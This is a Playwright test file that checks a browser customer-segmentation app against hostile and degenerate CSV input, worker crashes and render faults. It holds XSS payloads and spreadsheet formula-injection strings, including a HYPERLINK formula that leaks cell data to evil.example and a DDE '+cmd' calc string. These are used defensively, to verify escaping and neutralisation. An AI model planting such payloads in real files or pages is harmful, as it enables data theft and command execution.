/**
 * Hostile and degenerate input, files generated into a temp dir: each gives a clear message or a
 * correct result — never a crash, a hang, NaN on screen or an uncaught error.
 *
 * - markup in ids, descriptions, countries and segment names is shown as text everywhere (tables,
 *   plot hovers and legends) and never runs (window.__pwned stays undefined);
 * - formula-looking cells (=HYPERLINK, +cmd, -2+3, @SUM) are neutralised in every export;
 * - 1e308, 'NaN', 'Infinity' in number columns; a single customer; identical customers (zero
 *   variance); fewer customers than the largest k; 100,000 customers with one purchase each;
 * - a 300 MB file (HOSTILE_LARGE=1 only: it takes minutes on a 2-core machine).
 */
import { createReadStream, createWriteStream, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { writeFile as writeFileAsync } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createGunzip } from 'node:zlib';
import { createInterface } from 'node:readline';
import { strFromU8, unzipSync } from 'fflate';
import { expect, test, type Page } from '@playwright/test';
import { cell, chooseFile, drawThe3dView, expectStatus, UCI_GZ, parseCsv } from './helpers';

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

const HEADER = [
  'InvoiceNo',
  'StockCode',
  'Description',
  'Quantity',
  'InvoiceDate',
  'UnitPrice',
  'CustomerID',
  'Country',
];
type Row = readonly (string | number)[];

const q = (v: string | number) => {
  const s = String(v);
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
};
const csv = (rows: readonly Row[]) => [HEADER, ...rows].map((r) => r.map(q).join(',')).join('\r\n') + '\r\n';

let dir = '';
test.beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'hostile-'));
});
test.afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** Writes the file and resolves once every byte is on disk (a stream's open and write are asynchronous). */
async function writeFile(name: string, text: string): Promise<string> {
  const p = join(dir, name);
  await writeFileAsync(p, text);
  expect(statSync(p).size).toBe(Buffer.byteLength(text));
  return p;
}

/** A deterministic pseudo-random sequence (mulberry32). */
function rng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const day = (d: number) => {
  const t = new Date(Date.UTC(2011, 0, 1) + d * 86_400_000);
  return `${t.toISOString().slice(0, 10)} 10:00`;
};

/** Transactions of `ids`, each buying 1..8 times over a year, amounts varied. */
function purchases(
  ids: readonly string[],
  seed: number,
  extra?: (i: number) => Partial<Record<'desc' | 'country', string>>,
): Row[] {
  const r = rng(seed);
  const rows: Row[] = [];
  let inv = 500000;
  ids.forEach((id, i) => {
    const times = 1 + Math.floor(r() * 8);
    for (let t = 0; t < times; t++) {
      const x = extra?.(i) ?? {};
      rows.push([
        inv++,
        `A${1 + Math.floor(r() * 50)}`,
        x.desc ?? 'WHITE MUG',
        1 + Math.floor(r() * 20),
        day(Math.floor(r() * 360)),
        (0.5 + r() * 30).toFixed(2),
        id,
        x.country ?? 'United Kingdom',
      ]);
    }
  });
  return rows;
}

/** Text of the cells from RFM on must not show NaN/Infinity/undefined. */
async function expectNoJunk(page: Page): Promise<void> {
  for (const id of ['rfm', 'transform', 'choose-k', 'segments', 'export']) {
    const text = await cell(page, id).innerText();
    expect(text, `cell ${id}`).not.toMatch(/\bNaN\b|\bInfinity\b|\bundefined\b|\[object Object\]/);
  }
}

function watchErrors(page: Page): string[] {
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  page.on('console', (m) => {
    if (m.type() === 'error') errors.push(m.text());
  });
  return errors;
}

async function segmentsReady(page: Page): Promise<void> {
  await expect(cell(page, 'segments')).toHaveAttribute('data-status', 'ready', { timeout: 240_000 });
}

async function download(page: Page, testId: string): Promise<{ name: string; bytes: Buffer }> {
  const [dl] = await Promise.all([
    page.waitForEvent('download', { timeout: 60_000 }),
    page.getByTestId(testId).click(),
  ]);
  return { name: dl.suggestedFilename(), bytes: readFileSync(await dl.path()) };
}

/** Every TEXT cell of a CSV: none may start a spreadsheet formula. Numbers (e.g. -5) are fine. */
function expectNeutral(csvText: string, where: string): void {
  for (const [r, row] of parseCsv(csvText).entries())
    for (const [c, v] of row.entries()) {
      if (/^[=+@\t\r]/.test(v) || (/^-/.test(v) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(v)))
        throw new Error(`${where} row ${r + 1} column ${c + 1} starts a formula: ${v}`);
    }
}

const XSS = '<img src=x onerror=window.__pwned=1>';
const SCRIPT = '<script>window.__pwned=2</script>';
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
];

test('markup is shown as text everywhere and formulas are neutralised in every export', async ({ page }) => {
  test.setTimeout(300_000);
  const errors = watchErrors(page);
  const ids = [
    ...Array.from({ length: 36 }, (_, i) => `C${String(i + 1).padStart(3, '0')}`),
    XSS,
    SCRIPT,
    ...FORMULAS,
  ];
  const rows = purchases(ids, 11, (i) =>
    i % 3 === 0 ? { desc: XSS, country: SCRIPT } : i % 5 === 0 ? { desc: FORMULAS[0]!, country: XSS } : {},
  );
  const file = await writeFile('markup.csv', csv(rows));
  await page.goto('/');
  await chooseFile(page, file);
  await segmentsReady(page);

  // The RFM table shows the ids literally.
  const rfm = cell(page, 'rfm');
  await rfm.getByLabel('Find customer id').fill('<img');
  await expect(rfm.getByRole('table', { name: 'RFM per customer' })).toContainText(XSS);
  await rfm.getByLabel('Find customer id').fill('HYPERLINK');
  await expect(rfm.getByRole('table', { name: 'RFM per customer' })).toContainText(FORMULAS[0]!);
  await rfm.getByLabel('Find customer id').fill('');

  // A segment named with markup and a formula: shown literally in the table, legends and hovers.
  await page.getByLabel('Name of segment 1').fill(XSS);
  await page.getByLabel('Name of segment 1').press('Tab');
  await page.getByLabel('Name of segment 2').fill('=1+1');
  await page.getByLabel('Name of segment 2').press('Tab');
  await drawThe3dView(page);
  const plots = cell(page, 'segments');
  await expect
    .poll(async () => (await plots.locator('.legend').allTextContents()).join(' | '), { timeout: 30_000 })
    .toContain(`1 · ${XSS}`);
  // Hover over the 3D plot: whatever hover label shows up carries no live markup.
  const box = await page.getByTestId('segments-3d').boundingBox();
  if (box)
    for (let i = 1; i < 10; i++) await page.mouse.move(box.x + (box.width * i) / 10, box.y + box.height / 2);
  // Every element plotly drew: no <img>/<script> created from data.
  const live = await page.evaluate(
    () => document.querySelectorAll('.notebook img, .notebook script, [onerror]').length,
  );
  expect(live).toBe(0);

  // The data preview (Columns step) shows the text literally too.
  await expect(cell(page, 'columns')).toContainText(XSS);

  // Exports: every text cell is neutralised.
  const customers = await download(page, 'export-customers');
  const custText = customers.bytes.toString('utf8');
  expectNeutral(custText, customers.name);
  const parsed = parseCsv(custText);
  const idCol = parsed[0]!.indexOf('customer_id');
  const exportedIds = parsed.slice(1).map((r) => r[idCol]!);
  for (const f of FORMULAS) expect(exportedIds).toContain(`'${f}`);
  expect(exportedIds).toContain(XSS); // markup is data in a CSV: kept as it is
  expect(parsed.slice(1).some((r) => r.includes("'=1+1"))).toBe(true);

  const zip = await download(page, 'export-segments');
  const entries = unzipSync(new Uint8Array(zip.bytes));
  expect(Object.keys(entries).length).toBeGreaterThanOrEqual(2);
  for (const [n, b] of Object.entries(entries)) {
    expect(n).not.toMatch(/[<>:"/\\|?*]/);
    expectNeutral(strFromU8(b), n);
  }
  const profiles = await download(page, 'export-profiles');
  expectNeutral(profiles.bytes.toString('utf8'), profiles.name);
  const model = JSON.parse((await download(page, 'export-model')).bytes.toString('utf8')) as {
    names?: string[];
  };
  expect(JSON.stringify(model)).toContain('=1+1'); // JSON is not a spreadsheet: kept exact

  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  await expectNoJunk(page);
  expect(errors).toEqual([]);
});

test('1e308, NaN and Infinity in number columns: counted or rejected, never NaN on screen', async ({
  page,
}) => {
  test.setTimeout(240_000);
  const errors = watchErrors(page);
  const rows = purchases(
    Array.from({ length: 30 }, (_, i) => `N${i}`),
    5,
  );
  const weird: Row[] = [
    [900001, 'A1', 'X', '1e308', day(10), '1e308', 'N1', 'United Kingdom'],
    [900002, 'A1', 'X', 'NaN', day(11), '2.00', 'N2', 'United Kingdom'],
    [900003, 'A1', 'X', '3', day(12), 'NaN', 'N3', 'United Kingdom'],
    [900004, 'A1', 'X', 'Infinity', day(13), '1.00', 'N4', 'United Kingdom'],
    [900005, 'A1', 'X', '2', day(14), '-Infinity', 'N5', 'United Kingdom'],
    [900006, 'A1', 'X', '1e308', day(15), '1.5', 'N6', 'United Kingdom'],
  ];
  const file = await writeFile('numbers.csv', csv([...rows, ...weird]));
  await page.goto('/');
  await chooseFile(page, file);
  // Either the whole model is computed or a step says clearly what is wrong; both end in a settled state.
  await expect
    .poll(
      async () => {
        const st = await Promise.all(
          ['rfm', 'transform', 'segments'].map((id) => cell(page, id).getAttribute('data-status')),
        );
        if (st.includes('error')) return 'error';
        return st[2] === 'ready' ? 'ready' : 'pending';
      },
      { timeout: 240_000 },
    )
    .not.toBe('pending');
  const alerts = await page.getByRole('alert').allInnerTexts();
  console.log('weird numbers:', alerts.join(' / ') || 'no alert');
  // 1e308 × 1e308 overflows: the customer is named so the lines can be found.
  if ((await cell(page, 'transform').getAttribute('data-status')) === 'error')
    await expect(cell(page, 'transform').getByRole('alert')).toContainText('customer "N1"');
  for (const a of alerts) expect(a).not.toMatch(/\bNaN\b|undefined|\[object/);
  await expectNoJunk(page);
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  expect(errors).toEqual([]);
});

test('one customer: a clear message; identical customers; fewer customers than k', async ({ page }) => {
  test.setTimeout(240_000);
  const errors = watchErrors(page);
  await page.goto('/');

  // A single customer with several purchases.
  const one = await writeFile('one.csv', csv(purchases(['ONLY'], 3).concat(purchases(['ONLY'], 4))));
  await chooseFile(page, one);
  await expectStatus(page, 'rfm', 'ready');
  await expect(cell(page, 'transform')).toContainText(/needs at least 2/i, { timeout: 60_000 });
  await expectNoJunk(page);

  // 20 customers who did exactly the same thing: zero variance in every feature.
  const same: Row[] = Array.from({ length: 20 }, (_, i) => [
    600000 + i,
    'A1',
    'MUG',
    2,
    day(100),
    '3.50',
    `S${i}`,
    'France',
  ]);
  await chooseFile(page, await writeFile('same.csv', csv(same)));
  await expect
    .poll(
      async () => {
        const s = await cell(page, 'segments').getAttribute('data-status');
        const t = await cell(page, 'transform').getAttribute('data-status');
        return s === 'ready' ||
          t === 'error' ||
          (await cell(page, 'choose-k').getAttribute('data-status')) === 'error'
          ? 'settled'
          : 'pending';
      },
      { timeout: 120_000 },
    )
    .toBe('settled');
  console.log(
    'identical customers:',
    (await page.locator('.message').allInnerTexts()).join(' / ') || 'no message',
    '|',
    await cell(page, 'transform').getAttribute('data-status'),
    await cell(page, 'choose-k').getAttribute('data-status'),
    await cell(page, 'segments').getAttribute('data-status'),
  );
  await expectNoJunk(page);

  // Three customers: k cannot exceed 3.
  const three = await writeFile('three.csv', csv(purchases(['T1', 'T2', 'T3'], 9)));
  await chooseFile(page, three);
  await segmentsReady(page);
  const slider = page.getByLabel('Number of segments (k)');
  expect(Number(await slider.getAttribute('max'))).toBeLessThanOrEqual(3);
  await slider.focus();
  for (let i = 0; i < 12; i++) await page.keyboard.press('ArrowRight');
  await expect(page.getByTestId('k-value')).toHaveText(/k = [1-3]$/);
  await expectNoJunk(page);
  expect(errors).toEqual([]);
});

/**
 * 100,000 customers U0…U99999 with one purchase each; every `repeatEvery`-th buys again — once, or
 * (with `varied`) 1 to 4 more times.
 */
function manyCustomers(repeatEvery: number | null, varied = false): string {
  const r = rng(2);
  const lines: string[] = [HEADER.join(',')];
  for (let i = 0; i < 100_000; i++) {
    lines.push(
      `${700000 + i},A${i % 90},ITEM,${1 + (i % 12)},${day(Math.floor(r() * 365))},${(0.5 + r() * 40).toFixed(2)},U${i},United Kingdom`,
    );
    if (repeatEvery !== null && i % repeatEvery === 0) {
      const extra = varied ? 1 + Math.floor(r() * 4) : 1;
      for (let t = 0; t < extra; t++)
        lines.push(
          `${900000 + i * 5 + t},A1,ITEM,1,${day(300 + t * 10)},${(1 + r() * 9).toFixed(2)},U${i},United Kingdom`,
        );
    }
  }
  return lines.join('\n') + '\n';
}

async function settled(page: Page, timeout: number): Promise<'ready' | 'error'> {
  let out: 'ready' | 'error' = 'error';
  await expect
    .poll(
      async () => {
        for (const id of ['rfm', 'transform', 'choose-k', 'segments'])
          if ((await cell(page, id).getAttribute('data-status')) === 'error') return (out = 'error');
        return (await cell(page, 'segments').getAttribute('data-status')) === 'ready'
          ? (out = 'ready')
          : 'pending';
      },
      { timeout, intervals: [2000] },
    )
    .not.toBe('pending');
  return out;
}

test('100,000 customers with one purchase each: frequency is constant, said plainly', async ({ page }) => {
  test.setTimeout(300_000);
  const errors = watchErrors(page);
  await page.goto('/');
  await chooseFile(page, await writeFile('many-once.csv', manyCustomers(null)));
  // Every customer on exactly one row looks like a summary: the Columns step asks before going on.
  const checks = page.getByTestId('mapping-checks');
  await expect(checks).toContainText('occurs on exactly one of 100,000 rows', { timeout: 120_000 });
  await expectStatus(page, 'rfm', 'waiting');
  await checks.getByRole('button', { name: 'Confirm: “CustomerID” is the customer' }).click();
  await expectStatus(page, 'rfm', 'ready');
  await expect(page.getByTestId('rfm-customers')).toContainText('100,000 customers');
  expect(await settled(page, 240_000)).toBe('error');
  await expect(cell(page, 'transform').getByRole('alert')).toContainText(
    'Every customer has the same frequency (1)',
  );
  await expectNoJunk(page);
  expect(errors).toEqual([]);
});

test("100,000 customers, 1% of them twice: frequency's extreme λ is limited, the model is computed", async ({
  page,
}) => {
  // 99% F = 1 and 1% F = 2: the likelihood's λ (≈ −47) erases frequency's spread in float64 (scikit-learn
  // returns zeros there); the fit limits λ and says so, and the customers who bought twice stay apart.
  test.setTimeout(600_000);
  const errors = watchErrors(page);
  await page.goto('/');
  await chooseFile(page, await writeFile('many-1pc.csv', manyCustomers(100)));
  await expectStatus(page, 'rfm', 'ready');
  const st = await settled(page, 540_000);
  expect(st, (await page.getByRole('alert').allInnerTexts()).join(' / ')).toBe('ready');
  const note = page.getByTestId('lambda-limited');
  await expect(note).toHaveCount(1);
  await expect(note).toContainText(/maximum-likelihood λ of Frequency is -\d+\.\d\d/);
  await expectNoJunk(page);
  expect(errors).toEqual([]);
});

test('100,000 customers, 10% of them 2–5 times: the whole model is computed', async ({ page }) => {
  test.setTimeout(600_000);
  const errors = watchErrors(page);
  await page.goto('/');
  await chooseFile(page, await writeFile('many.csv', manyCustomers(10, true)));
  await expectStatus(page, 'rfm', 'ready');
  await expect(page.getByTestId('rfm-customers')).toContainText('100,000 customers');
  const t0 = Date.now();
  const st = await settled(page, 540_000);
  expect(st, (await page.getByRole('alert').allInnerTexts()).join(' / ')).toBe('ready');
  // From 100,000 customers the starts are screened on a quarter of them, and the cell says so.
  await expect(cell(page, 'choose-k')).toHaveAttribute('data-restart-sample', '25000');
  await expect(cell(page, 'choose-k')).toContainText('screened on 25,000 sampled customers');
  await expect(page.getByTestId('restart-sample')).toContainText(
    'random sample of 25,000 customers (seed 42)',
  );
  await expect(page.getByTestId('restart-sample')).toContainText('those of all 100,000 customers');
  console.log(
    `100k model in ${Math.round((Date.now() - t0) / 1000)} s:`,
    await page.getByTestId('engine-info').innerText(),
    '|',
    await page.getByTestId('k-value').innerText(),
  );
  await expectNoJunk(page);
  expect(errors).toEqual([]);
});

const LARGE_SKIP_REASON = 'set HOSTILE_LARGE=1 to run: it writes a 300 MB file and takes several minutes';
const largeTitle =
  process.env.HOSTILE_LARGE === '1'
    ? 'a 300 MB file: loads or says it is too large; the tab survives'
    : `a 300 MB file: loads or says it is too large; the tab survives (skipped: ${LARGE_SKIP_REASON})`;
test(largeTitle, async ({ page }) => {
  test.skip(process.env.HOSTILE_LARGE !== '1', LARGE_SKIP_REASON);
  test.setTimeout(1_200_000);
  const errors = watchErrors(page);
  const target = 300 * 1024 * 1024;
  const p = join(dir, 'large.csv');
  const out = createWriteStream(p);
  const uci: string[] = [];
  const rl = createInterface({ input: createReadStream(UCI_GZ).pipe(createGunzip()) });
  for await (const line of rl) uci.push(line);
  out.write(uci[0] + '\n');
  let written = 0;
  let rep = 0;
  outer: for (;;) {
    for (let i = 1; i < uci.length; i++) {
      // Unique customer ids per repetition: CustomerID and Country are the last two fields (neither
      // holds a comma), so the id is found from the right; invoices stay (frequency counts invoices per customer).
      const src = uci[i]!;
      const c2 = src.lastIndexOf(',');
      const c1 = src.lastIndexOf(',', c2 - 1);
      const id = src.slice(c1 + 1, c2);
      const line = `${src.slice(0, c1 + 1)}${id === '' ? '' : `${id}-${rep}`}${src.slice(c2)}`;
      written += line.length + 1;
      if (!out.write(line + '\n')) await new Promise<void>((res) => out.once('drain', () => res()));
      if (written >= target) break outer;
    }
    rep++;
  }
  await new Promise<void>((res) => out.end(() => res()));
  console.log(`large file: ${(statSync(p).size / 1e6).toFixed(0)} MB, ${rep + 1} repetitions`);
  await page.goto('/');
  const t0 = Date.now();
  await chooseFile(page, p);
  await expect
    .poll(
      async () => {
        const st = await cell(page, 'data').getAttribute('data-status');
        if (st === 'error') return 'error';
        return (await cell(page, 'rfm').getAttribute('data-status')) === 'ready' ? 'ready' : 'pending';
      },
      { timeout: 1_100_000, intervals: [5000] },
    )
    .not.toBe('pending');
  console.log(
    `large file settled after ${Math.round((Date.now() - t0) / 1000)} s:`,
    await cell(page, 'data')
      .innerText()
      .then((t) => t.slice(0, 600)),
  );
  // The tab is alive and answers.
  expect(await page.evaluate(() => 1 + 1)).toBe(2);
  expect(errors.filter((e) => !/out of memory/i.test(e))).toEqual([]);
});

/**
 * Loads 60 customers, waits for the segments, then makes the named worker (URL contains `kind`)
 * throw an uncaught error on its next message — the same error event a real crash gives.
 */
async function modelThenArmCrash(
  page: Page,
  name: string,
  seed: number,
  kind: 'engine' | 'data',
): Promise<{ pageErrors: string[]; customers: string }> {
  const pageErrors: string[] = [];
  page.on('pageerror', (e) => pageErrors.push(String(e)));
  await page.goto('/');
  await chooseFile(
    page,
    await writeFile(
      name,
      csv(
        purchases(
          Array.from({ length: 60 }, (_, i) => `K${i}`),
          seed,
        ),
      ),
    ),
  );
  await segmentsReady(page);
  const customers = await page.getByTestId('rfm-customers').innerText();
  const worker = page.workers().find((w) => w.url().includes(kind));
  expect(
    worker,
    page
      .workers()
      .map((w) => w.url())
      .join(', '),
  ).toBeDefined();
  await worker!.evaluate(() => {
    self.addEventListener('message', () => {
      throw new Error('simulated crash');
    });
  });
  return { pageErrors, customers };
}

/**
 * A worker that dies. No test hook in the app: Playwright runs code inside the real worker and makes
 * it throw an uncaught error when the next request arrives — the same error event a crash gives.
 */
test('a crashed engine worker is replaced: the step is computed again, the user told', async ({ page }) => {
  test.setTimeout(300_000);
  const { pageErrors, customers } = await modelThenArmCrash(page, 'crash.csv', 21, 'engine');
  const crashed = page.workers().find((w) => w.url().includes('engine'))!;
  await page.getByTestId('seed-input').fill('9');
  await page.getByTestId('seed-input').press('Enter');
  const chooseK = cell(page, 'choose-k');
  const note = page.getByTestId('engine-restarted');
  await expect(note).toBeVisible({ timeout: 60_000 });
  await expect(note).toContainText('simulated crash');
  // The sweep the crash interrupted ran again on a fresh worker, with the new seed.
  await segmentsReady(page);
  await expect(chooseK).toHaveAttribute('data-status', 'ready');
  await expect(page.getByTestId('seed-input')).toHaveValue('9');
  expect(page.workers()).not.toContain(crashed);
  // The cells before it are intact.
  for (const id of ['data', 'columns', 'cleaning', 'rfm', 'transform']) await expectStatus(page, id, 'ready');
  await expect(page.getByTestId('rfm-customers')).toHaveText(customers);
  await expect(page.getByRole('alert')).toHaveCount(0);
  await note.getByRole('button', { name: 'OK' }).click();
  await expect(note).toHaveCount(0);
  expect(pageErrors).toEqual([]);
});

test('a crashed data worker is replaced: the file is read again, the user told, the change applied', async ({
  page,
}) => {
  test.setTimeout(300_000);
  const { pageErrors } = await modelThenArmCrash(page, 'crash2.csv', 22, 'data');
  const crashed = page.workers().find((w) => w.url().includes('data'))!;
  // Any cleaning change asks the data worker again: it dies on that request.
  const rule = cell(page, 'cleaning').getByRole('checkbox').first();
  const wasChecked = await rule.isChecked();
  await rule.click();
  const note = page.getByTestId('worker-restarted');
  await expect(note).toBeVisible({ timeout: 60_000 });
  await expect(note).toContainText('crash2.csv');
  await expect(note).toContainText('simulated crash');
  // The request the crash interrupted was run again by the new worker: the change took effect.
  await segmentsReady(page);
  expect(await rule.isChecked()).toBe(!wasChecked);
  await expect(page.getByTestId('cleaning-summary')).toContainText('lines kept');
  for (const id of ['data', 'columns', 'cleaning', 'rfm', 'transform', 'choose-k', 'segments'])
    await expectStatus(page, id, 'ready');
  expect(page.workers()).not.toContain(crashed);
  await expect(page.getByRole('alert')).toHaveCount(0);
  // The note goes when the user has read it.
  await note.getByRole('button', { name: 'OK' }).click();
  await expect(note).toHaveCount(0);
  expect(pageErrors).toEqual([]);
});

/**
 * A cell whose rendering throws is contained by its error boundary. No test hook in the app: the page's
 * Number.prototype.toFixed is made to throw for 3 digits, which of the app's components only the
 * Choose-k table asks for.
 */
test('a cell that fails to render shows its own message and Try again; the other cells keep working', async ({
  page,
}) => {
  test.setTimeout(300_000);
  await page.addInitScript(() => {
    const w = window as unknown as { __renderFault: boolean };
    w.__renderFault = true;
    const toFixed = Number.prototype.toFixed;
    Number.prototype.toFixed = function (this: number, digits?: number): string {
      // plotly formats with toFixed(3) too: only the app's own code (not the plotly chunk) is hit
      if (w.__renderFault && digits === 3 && !/plotly/.test(new Error().stack ?? ''))
        throw new Error('injected render fault');
      return toFixed.call(this, digits);
    };
  });
  await page.goto('/');
  await chooseFile(
    page,
    await writeFile(
      'boundary.csv',
      csv(
        purchases(
          Array.from({ length: 60 }, (_, i) => `B${i}`),
          23,
        ),
      ),
    ),
  );
  const failed = page.getByRole('region', { name: 'Choose k (failed)' });
  await expect(failed.getByRole('alert')).toContainText('The Choose k step stopped working.', {
    timeout: 240_000,
  });
  await expect(failed).toContainText('injected render fault');
  await expect(cell(page, 'choose-k')).toHaveCount(0);
  // the cells before and after it are intact and computed
  for (const id of ['data', 'columns', 'cleaning', 'rfm', 'transform', 'segments', 'export'])
    await expectStatus(page, id, 'ready');
  await expect(page.getByTestId('rfm-customers')).toContainText('60 customers');
  // once the cause is gone, Try again renders the cell with the results it had
  await page.evaluate(() => {
    (window as unknown as { __renderFault: boolean }).__renderFault = false;
  });
  await failed.getByRole('button', { name: 'Try again' }).click();
  await expectStatus(page, 'choose-k', 'ready');
  await expect(page.getByTestId('sweep-table').locator('tbody tr')).toHaveCount(10);
  expect(await page.getByRole('alert').allInnerTexts()).toEqual([]);
});
